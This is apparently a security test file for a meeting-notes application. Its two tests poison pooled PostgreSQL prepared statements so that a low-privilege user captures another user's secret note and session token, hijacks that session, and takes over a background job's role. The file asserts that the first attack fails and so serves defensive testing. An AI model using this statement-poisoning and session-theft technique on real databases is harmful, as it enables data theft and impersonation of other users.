import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { test } from 'node:test'
import { sql } from 'kysely'
import { asJob } from '#db/scope.ts'
import { paths } from '#paths.ts'
import { cast } from './cast.ts'
import { createWorld } from './harness.ts'
import { openIn, planIn } from './meeting-cast.ts'

const world = await createWorld({ poolSize: 1 })
const log = (...x: unknown[]) => console.log(...x)

test('SQL smuggled into one request waits, as a prepared statement, for the next person on the connection', async () => {
  const { id: meeting } = await planIn(world)
  const note = 'HEMMELIG: jeg vil sige op'
  assert.equal((await world.as(cast.leader).post(paths.meetingNotes.to({ meeting }), { key: randomUUID(), note })).status, 303)
  await world.as(cast.leader).get(paths.meetingNotes.to({ meeting }))
  // The attacker: an employee who is in no circle.
  const swapped = await world.inScopeOf(cast.employee, async ({ tx }) => {
    const { rows } = await sql<{ name: string; statement: string; types: string[] }>`
      select name, statement, parameter_types::text[] as types from pg_prepared_statements`.execute(tx)
    const one = rows.find(({ statement }) => /from data.meeting_note n where n.meeting_id/.test(statement))
    assert.ok(one, 'no such statement: ' + rows.map((r) => r.statement).join('\n'))
    await sql.raw(`deallocate ${one.name}`).execute(tx)
    await sql.raw(`prepare ${one.name} (${one.types.join()}) as
      select n.meeting_id as "meetingId", n.id, n.text, n.card_id as "cardId", n.revision, n.created_at as "writtenAt",
        set_config('evil.note', n.text, false), set_config('evil.session', current_setting('app.session'), false)
      from data.meeting_note n where n.meeting_id = $1 order by n.created_at, n.id limit 2000`).execute(tx)
    const job = rows.find(({ statement }) => /set_config\('app.job'/.test(statement))
    log('job statement there:', job?.name)
    return one.name
  })
  log('swapped', swapped)
  const page = await world.as(cast.leader).get(paths.meetingNotes.to({ meeting }))
  log('victim status', page.status)
  const stolen = await world.inScopeOf(cast.employee, async ({ tx }) => {
    const { rows } = await sql`select current_setting('evil.note', true) as note, current_setting('evil.session', true) as session`.execute(tx)
    return rows[0] as { note: string; session: string }
  })
  log('stolen', stolen)
  const as = await world.inScopeOf(cast.employee, async ({ tx }) => {
    await sql`select set_config('app.session', ${stolen.session}, true)`.execute(tx)
    return (await sql`select name from app.me()`.execute(tx)).rows
  })
  log('attacker is now', as)
  assert.notEqual(stolen.note, note)
})

test('the proof of the process', async () => {
  const { id } = await planIn(world, { name: 'Andre' })
  await openIn(world, id)
  const job = { db: world.db, proof: world.database.proof }
  await asJob(job, new Date(), async () => {})
  await world.inScopeOf(cast.employee, async ({ tx }) => {
    const { rows } = await sql<{ name: string; statement: string }>`select name, statement from pg_prepared_statements`.execute(tx)
    const one = rows.find(({ statement }) => /set_config\('app.job'/.test(statement))
    assert.ok(one)
    await sql.raw(`deallocate ${one.name}`).execute(tx)
    await sql.raw(`prepare ${one.name} (text) as select set_config('app.job', $1, true), set_config('evil.proof', $1, false)`).execute(tx)
  })
  await asJob(job, new Date(), async () => {})
  const seen = await world.inScopeOf(cast.employee, async ({ tx }) => {
    await sql`select set_config('app.job', current_setting('evil.proof', true), true), set_config('role', 'app_job', true)`.execute(tx)
    return (await sql`select meeting_id, (select state ->> 'format' from app.job_lock_meeting(meeting_id)) as format from app.open_meetings()`.execute(tx)).rows
  })
  log('as job', seen)
})
